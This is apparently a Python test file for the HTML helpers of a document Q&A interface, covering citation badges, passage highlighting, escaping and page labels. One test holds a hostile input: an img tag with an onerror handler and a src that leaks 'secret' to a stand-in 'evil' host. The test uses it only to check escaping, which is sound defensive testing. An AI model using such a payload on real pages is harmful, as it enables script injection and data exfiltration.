"""The page's HTML and text helpers: safe answer HTML, citation badges, source cards."""

from __future__ import annotations

import re
from typing import Any

from core.api_models import DocumentOut, Highlight, NumberedPassage
from ui.render import (
    MARK_STYLE,
    answer_html,
    escape_markdown,
    highlight_terms,
    marked_html,
    pages_label,
    passage_highlights,
    reflow,
    size_label,
    source_card_html,
)


def passage(text: str, n: int = 1, **extra: Any) -> NumberedPassage:
    fields: dict[str, Any] = {
        "n": n,
        "document_id": "d1",
        "filename": "attention.pdf",
        "page": 7,
        "page_end": 7,
        "section": "5.2 Hardware and Schedule",
        "char_start": 0,
        "char_end": len(text),
        "text": text,
        "score": 0.71,
    }
    return NumberedPassage(**(fields | extra))


def badges(rendered: str) -> list[str]:
    """The numbers of the badges, in order (links and unknown-number spans alike)."""
    return re.findall(r">(\d+)</(?:a|span)>", rendered)


def test_model_output_is_never_rendered_as_markup() -> None:
    hostile = 'Look <img src="http://evil/x?q=secret" onerror="alert(1)"> and $x^2$ ![a](http://e)'
    rendered = answer_html(hostile, [], 0)
    assert "<img" not in rendered
    assert "&lt;img" in rendered
    assert "$" not in rendered  # no math rendering either


def test_citation_markers_become_linked_badges_naming_their_source() -> None:
    sources = [passage("Eight P100 GPUs.")]
    rendered = answer_html("Trained on 8 GPUs [1], see also [2].", sources, 3)
    assert 'href="#pgpt-source-3-1"' in rendered
    assert 'title="attention.pdf, page 7"' in rendered
    assert "not given to the model" in rendered  # [2] points to no passage
    assert "[1]" not in rendered


def test_a_range_marker_gets_a_badge_for_every_passage_it_spans() -> None:
    sources = [passage(f"Passage {n}.", n=n) for n in (1, 2, 3)]
    rendered = answer_html("All three agree [1-3].", sources, 0)
    assert badges(rendered) == ["1", "2", "3"]
    assert all(f'href="#pgpt-source-0-{n}"' in rendered for n in (1, 2, 3))


def test_question_words_are_highlighted_without_stopwords() -> None:
    text = "We trained the big models on 8 P100 GPUs for 3.5 days."
    spans = passage_highlights(passage(text), "How many P100 GPUs were used?", "")
    assert [text[a:b] for a, b in spans] == ["P100", "GPUs"]
    assert "how" not in highlight_terms("How many GPUs [1]?") and "1" not in highlight_terms("[1]")


def test_the_exact_support_span_wins_over_word_matches() -> None:
    text = "Intro sentence. We trained on 8 P100 GPUs. Outro."
    start, end = text.index("We"), text.index(" Outro")
    exact = Highlight(start=start, end=end, page=7, page_start=start, page_end=end)
    spans = passage_highlights(passage(text, highlight=exact), "P100 GPUs intro outro", "")
    assert [text[a:b] for a, b in spans] == ["We trained on 8 P100 GPUs."]


def test_marked_html_escapes_inside_and_outside_marks() -> None:
    text = "a <b> & c"
    assert marked_html(text, [(2, 5)]) == (f'a <mark style="{MARK_STYLE}">&lt;b&gt;</mark> &amp; c')


def test_source_card_shows_file_pages_section_score_and_highlight() -> None:
    card = source_card_html(
        passage("Eight <GPUs>.\nNext line.", page_end=8), [(6, 12)], anchor="pgpt-source-0-1"
    )
    assert 'id="pgpt-source-0-1"' in card
    assert "attention.pdf" in card and "pages 7–8" in card and "5.2 Hardware" in card
    assert "match 0.71" in card
    assert "&lt;GPUs&gt;</mark>" in card and "<br>" in card


def test_escape_markdown_keeps_file_names_literal() -> None:
    assert escape_markdown("my_file*v2*.pdf") == "my\\_file\\*v2\\*\\.pdf"


def test_reflow_joins_broken_sentences_but_keeps_headings_and_rows() -> None:
    text = "Each training\nbatch has tokens.\n5.2 Hardware\nWe trained\n(3.5 days).\nByteNet 23.75"
    assert reflow(text) == (
        "Each training batch has tokens.\n5.2 Hardware\nWe trained (3.5 days).\nByteNet 23.75"
    )
    assert len(reflow(text)) == len(text)


def test_citation_places_name_pages_slides_sheets_headings_and_ocr() -> None:
    assert pages_label(passage("x")) == "page 7"
    assert pages_label(passage("x", ocr=True)) == "page 7 (read by OCR)"
    assert pages_label(passage("x", page=2, page_end=2, page_unit="slide", section="Budget")) == (
        "slide 2 · Budget"
    )
    assert pages_label(passage("x", page=2, page_end=2, page_unit="sheet", section="Q1")) == (
        "sheet 2 · Q1"
    )
    assert pages_label(passage("x", page=1, page_end=1, page_unit="document", section="A > B")) == (
        "A > B"
    )


def test_document_sizes_say_how_many_pages_ocr_read() -> None:
    scan = DocumentOut(
        document_id="d", filename="s.pdf", pages=12, chunks=30, ocr_pages=[*range(1, 13)]
    )
    assert size_label(scan) == "12 pages · 30 passages · 12 pages read by OCR"
    deck = DocumentOut(document_id="d", filename="d.pptx", pages=3, chunks=3, page_unit="slide")
    assert size_label(deck) == "3 slides · 3 passages"
